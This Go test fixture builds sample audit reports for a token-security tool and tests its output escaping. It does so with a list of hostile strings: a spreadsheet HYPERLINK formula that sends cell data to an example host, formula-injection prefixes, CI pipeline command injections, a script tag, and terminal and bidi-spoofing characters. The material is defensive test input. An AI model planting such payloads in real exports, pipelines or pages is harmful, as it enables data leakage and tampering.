package reports

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"iter"
	"time"

	"patrol/engine"
	"patrol/reports/table"
)

var asOf = time.Date(2026, 7, 1, 12, 0, 0, 0, time.UTC)

// hostile is what anybody may write into a comment.
var hostile = []string{
	`=HYPERLINK("https://example.com/?"&A1,"ok")`,
	"+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "\ufeff=1", " \u200b=1",
	`x";=1+1;"`, "a|-1", `"=1`,
	"\x1b[31mred\x1b]0;title\a", "\u202egnp.exe", "zero\u200bwidth", "null\x00byte", "bad\xff\xfeutf8", "\ufffe\uffff", "\ufffd",
	"_x000D_", "_x005F_x000D_", "_x005F_", "_xZZZZ_",
	"<script>alert(1)</script>", "a & b", `\u{202e}`, "two\r\nlines",
	"##vso[task.setvariable variable=PATH]x", "a ##[command]x", "::error::x", "issue ##12",
	"ключ 鍵 🔑", "5e12", "0012", "9007199254740993", " leading and trailing ",
}

// report is a report with everything in it that formats must get right.
func report() engine.Report {
	findings, tokens := fixtureFindings(), fixtureTokens()
	for i, f := range findings {
		for _, t := range tokens {
			if t.Token.ID == f.ResourceID && t.Workspace.ID == f.WorkspaceID {
				findings[i].Token = &engine.FindingToken{Comment: t.Token.Comment, LastUsed: t.Token.LastUsed}
			}
		}
	}
	statuses, severities := engine.Tally{engine.Pass: 100, engine.NotApplicable: 7}, map[engine.Severity]engine.Tally{}
	for _, level := range engine.Severities() {
		severities[level] = engine.Tally{}
	}
	policies := fixturePolicies(findings)
	for _, p := range policies {
		for _, status := range []engine.Status{engine.Pass, engine.NotApplicable} {
			severities[p.Policy.Severity][status] += p.Tally[status]
		}
	}
	for _, f := range findings {
		statuses[f.Status]++
		severities[f.Severity][f.Status]++
	}
	return engine.Report{
		Version:    "1.2.3",
		AsOf:       asOf,
		FailOn:     engine.FailOn(engine.Low),
		Workspaces: withPolicies(fixtureWorkspaces(len(tokens)), policies, findings),
		Policies:   policies,
		Summary:    engine.Summary{Tokens: len(tokens), Workspaces: 2, Statuses: statuses, Severities: severities},
		Exceptions: fixtureExceptions(),
		Trend:      fixtureTrend(findings),
		Findings:   table.Known(findings),
		Tokens:     table.Known(tokens),
	}
}

var (
	prod = engine.Workspace{
		ID: "9007199254740993", Name: "prod", Host: "https://prod.example.com", Cloud: "azure",
		Labels: map[string]string{"stage": "prod", "region": "eu"},
	}
	sandbox = engine.Workspace{ID: "1234567890123456", Name: "sandbox", Host: "https://sandbox.example.com"}
)

func fixtureWorkspaces(tokens int) []engine.WorkspaceReport {
	complete := engine.Coverage{Status: engine.Complete}
	denied := engine.Coverage{
		Status: engine.Denied, Reason: "permission_denied", Detail: "the list of users asks for workspace admin; the answer was 403",
		Hint: "Make the service principal of patrol a member of the group admins, or accept that policies on owners stay unknown.",
	}
	return []engine.WorkspaceReport{{
		Snapshot: engine.Snapshot{
			ID: 7, Workspace: prod, CollectedAt: asOf.Add(-time.Hour), Digest: "ab12", Previous: "cd34", Tokens: tokens - 1,
			Coverage: map[engine.SectionName]engine.Coverage{
				engine.SectionTokens:     {Status: engine.Partial, Reason: "bad_timestamp", Detail: "1 row has an expiry that is no time", Count: tokens - 1},
				engine.SectionPrincipals: {Status: engine.Complete, Count: 12},
				engine.SectionSettings:   complete, engine.SectionGrants: complete,
			},
		},
		Settings: engine.Settings{
			"enableTokensConfig":   {},
			"maxTokenLifetimeDays": {Value: new("90")},
			"enableOldThing":       {Problem: engine.Unsupported, Detail: "this workspace does not know the key"},
			"enableDeniedThing":    {Problem: engine.Denied, Detail: "403"},
			"emptyThing":           {Value: new("")},
		},
		Grants: engine.Grants{
			{Principal: "users", Kind: "group", Level: "CAN_USE"},
			{Principal: "=cmd", Kind: "user", Level: "CAN_MANAGE", Inherited: true, InheritedFrom: "/authorization/"},
		},
		Counts: engine.Tally{engine.Pass: 60, engine.Fail: 30},
	}, {
		Snapshot: engine.Snapshot{
			ID: 9, Workspace: sandbox, CollectedAt: asOf.Add(-90 * time.Minute).Add(5 * time.Millisecond), Digest: "ef56", Tokens: 1,
			Coverage: map[engine.SectionName]engine.Coverage{
				engine.SectionTokens: {Status: engine.Complete, Count: 1}, engine.SectionPrincipals: denied, engine.SectionSettings: denied,
				engine.SectionGrants: {Status: engine.NotCollected},
			},
		},
		Counts: engine.Tally{engine.Pass: 3, engine.Unknown: 2},
	}}
}

// fixtureTrend has one of each change, and new findings with hostile text.
func fixtureTrend(findings []engine.Finding) *engine.Trend {
	counts := map[engine.Change]map[engine.Severity]int{engine.ChangeNew: {engine.Critical: 1, engine.High: 30}}
	for _, change := range engine.Changes()[1:] {
		counts[change] = map[engine.Severity]int{engine.High: 2}
	}
	return &engine.Trend{
		Since: asOf.Add(-7 * 24 * time.Hour), Earliest: asOf.Add(-9 * 24 * time.Hour), Workspaces: 1, Counts: counts, New: append(findings[:1:1], findings[2:21]...),
		Fixes: map[engine.Severity]engine.Fix{
			engine.High: {Count: 2, Mean: 54 * time.Hour},
			engine.Low:  {Count: 1200, Mean: 40 * 24 * time.Hour, AtLeast: true},
		},
	}
}

// withPolicies adds what each policy came to in each workspace; all passes are
// those of the first.
func withPolicies(workspaces []engine.WorkspaceReport, policies []engine.PolicyReport, findings []engine.Finding) []engine.WorkspaceReport {
	for i := range workspaces {
		workspaces[i].Policies = map[string]engine.Tally{}
		for _, p := range policies {
			tally := engine.Tally{}
			if i == 0 {
				tally[engine.Pass] = p.Tally[engine.Pass]
			}
			for _, f := range findings {
				if f.Policy == p.Policy.ID && f.WorkspaceID == workspaces[i].Snapshot.Workspace.ID {
					tally[f.Status]++
				}
			}
			workspaces[i].Policies[p.Policy.ID] = tally
		}
	}
	return workspaces
}

func fixturePolicies(findings []engine.Finding) []engine.PolicyReport {
	policies := []engine.Policy{
		{
			ID: "PAT-007", Title: "Token of an admin never expires", Severity: engine.Critical, Resource: engine.ResourceToken, Remedy: "revoke",
			Description: "Whoever holds it\nis an admin for ever.", Remediation: "Revoke it and use OAuth.",
			Controls: map[string][]string{"nist-800-53r5": {"IA-5", "AC-6"}, "cis-azure-foundations-6.0": {"2.1.6"}},
			Params:   []engine.Param{{Name: "grace_days", Default: 0, Value: 14, Origin: "patrol.yaml:6"}, {Name: "groups", Value: []any{"admins", "<ops>"}}},
			Aliases:  []string{"sat:IA-4"}, File: "token/admin_endless.rego", Pack: "built-in",
			SetSeverity: "patrol.yaml:4", OwnSeverity: engine.High,
			Overrides: []engine.Override{{Match: "label stage is prod", Workspaces: []string{prod.ID}, Key: "params.grace_days", Value: 7, Origin: "patrol.yaml:20"}},
		},
		{ID: "PAT-001", Title: "Token never expires", Severity: engine.High, Resource: engine.ResourceToken, Remedy: "revoke", Controls: map[string][]string{"nist-800-53r5": {"IA-5", "AC-2(3)(d)"}}},
		{ID: "WS-001", Title: "Workspace sets no maximum lifetime for new tokens, so that they may live for two years", Severity: engine.Medium, Resource: engine.ResourceWorkspace, Remedy: "set-setting", Controls: map[string][]string{"iso-27001-2022": {"A.8.2"}}},
		{ID: "PAT-020", Title: "Token is old", Severity: engine.Low, Resource: engine.ResourceToken, Remedy: "notify", Off: "patrol.yaml:12", Controls: map[string][]string{"iso-27001-2022": {"A.8.3"}}},
		{ID: "PAT-030", Title: "Token has no comment", Severity: engine.Info, Resource: engine.ResourceToken, Remedy: "set-comment"},
	}
	reports := make([]engine.PolicyReport, len(policies))
	for i, p := range policies {
		tally := engine.Tally{engine.Pass: 25}
		if p.Off != "" {
			tally = engine.Tally{}
		}
		for _, f := range findings {
			if f.Policy == p.ID {
				tally[f.Status]++
			}
		}
		reports[i] = engine.PolicyReport{Policy: p, Tally: tally}
	}
	return reports
}

func finding(policy, title string, level engine.Severity, status engine.Status, w engine.Workspace, id, owner, message string) engine.Finding {
	return engine.Finding{
		Policy: policy, Title: title, Severity: level, Status: status, Workspace: w.Name, WorkspaceID: w.ID,
		Resource: engine.ResourceToken, ResourceID: id, Owner: owner, Message: message, Remedy: "revoke",
		Fingerprint: fmt.Sprintf("%s-%s-%.6s", policy, w.Name, id), Since: firstSeen(status),
	}
}

// firstSeen is a moment for whatever has a verdict.
func firstSeen(status engine.Status) time.Time {
	if !status.Judged() {
		return time.Time{}
	}
	return asOf.Add(-9*24*time.Hour - 30*time.Minute)
}

func tokenID(n int) string { return fmt.Sprintf("%x", sha256.Sum256(fmt.Append(nil, n))) }

func fixtureFindings() []engine.Finding {
	var findings []engine.Finding
	admin := finding("PAT-007", "Token of an admin never expires", engine.Critical, engine.Fail, prod, tokenID(1), "alice@example.com", "never expires; its owner is an admin")
	admin.Evidence = map[string]any{"expires_in_days": -5, "owner_id": json.Number("9007199254740993"), "comment": "=1;-1\u202e\xff<b>"}
	errored := finding("PAT-007", "Token of an admin never expires", engine.Critical, engine.Errored, prod, tokenID(2), "8888888888888888", "policy could not be evaluated: div: divide by zero")
	findings = append(findings, admin, errored)
	for i, text := range hostile {
		findings = append(findings, finding("PAT-001", "Token never expires", engine.High, engine.Fail, prod, tokenID(i+3), text, "never expires: "+text))
	}
	waived := finding("PAT-001", "Token never expires", engine.High, engine.Waived, prod, tokenID(90), "svc-bi", "never expires")
	waived.Waiver = &engine.Waiver{ID: "W-1", Reason: "-until the migration", Ticket: "SEC-1", Approver: "bob@example.com", Expires: "2026-09-30"}
	baselined := finding("PAT-001", "Token never expires", engine.High, engine.Baselined, prod, tokenID(91), "svc-old", "never expires")
	unread := finding("WS-001", "Workspace sets no maximum lifetime for new tokens, so that they may live for two years", engine.Medium, engine.Unknown, sandbox, sandbox.ID, "", "settings were not read (permission_denied)")
	unread.Resource, unread.Remedy = engine.ResourceWorkspace, "set-setting"
	quiet := finding("PAT-030", "Token has no comment", engine.Info, engine.Fail, sandbox, tokenID(1), "carol@example.com", "has no comment")
	return append(findings, waived, baselined, unread, quiet)
}

func fixtureTokens() []engine.TokenRow {
	var rows []engine.TokenRow
	for i, text := range hostile {
		rows = append(rows, tokenRow(prod, engine.Token{
			ID: tokenID(i + 1), Comment: text, Created: ms(-100 * 24), Expires: new(int64(engine.NeverExpires)), LastUsed: ms(-48),
			OwnerID: "9007199254740993", CreatorID: "42", CreatorName: "-" + text, Scopes: []string{"sql", "=jobs"},
			AutoscopeState: "AUTOSCOPE_STATE_COMPLETED",
		}))
	}
	broken := engine.Token{
		ID: tokenID(99), OwnerID: "8888888888888888", Created: ms(-24),
		Defects: []engine.Defect{{Field: "expiry_time", Reason: "bad_timestamp", Value: "-7"}, {Field: "last_used_day", Reason: "bad_type"}, {Field: "scopes", Reason: "bad_type"}},
	}
	gone := engine.Token{ID: tokenID(98), OwnerID: "77", Created: ms(-48), Expires: ms(48), LastUsed: ms(-24), CreatorID: "77"}
	left := tokenRow(prod, gone)
	left.Owner = engine.Party{ID: "77", Kind: engine.Missing, Active: new(false), Admin: new(false), LiveTokens: 1, Account: &engine.AccountParty{Status: engine.AccountInactive, Kind: engine.User, Name: "left@example.com"}}
	soon := engine.Token{ID: tokenID(1), Created: ms(-10 * 24), Expires: ms(5*24 + 1), OwnerID: "7", CreatorID: "7"}
	return append(rows, tokenRow(prod, broken), left, tokenRow(sandbox, soon))
}

// tokenRow joins a token with a directory that only prod has.
func tokenRow(w engine.Workspace, t engine.Token) engine.TokenRow {
	row := engine.TokenRow{Workspace: w, Subject: engine.Subject{Token: t, Facts: engine.Derive(t, asOf.UnixMilli())}}
	row.Owner = engine.Party{ID: t.OwnerID}
	row.Creator = engine.Party{ID: t.CreatorID, Name: t.CreatorName}
	switch {
	case w.ID != prod.ID:
	case t.OwnerID == "8888888888888888":
		row.Owner = engine.Party{ID: t.OwnerID, Kind: engine.Missing, Active: new(false), Admin: new(false), LiveTokens: 1}
	default:
		row.Owner = engine.Party{ID: t.OwnerID, Kind: engine.User, Name: "=" + t.Comment, Active: new(true), Admin: new(false), LiveTokens: 3}
	}
	return row
}

// ms is an instant some hours from asOf.
func ms(hours int) *int64 { return new(asOf.Add(time.Duration(hours) * time.Hour).UnixMilli()) }

// breaking yields n rows and then fails.
func breaking[T any](rows iter.Seq2[T, error], n int, failure error) iter.Seq2[T, error] {
	return func(yield func(T, error) bool) {
		for row := range rows {
			if n == 0 {
				yield(row, failure)
				return
			}
			n--
			if !yield(row, nil) {
				return
			}
		}
	}
}
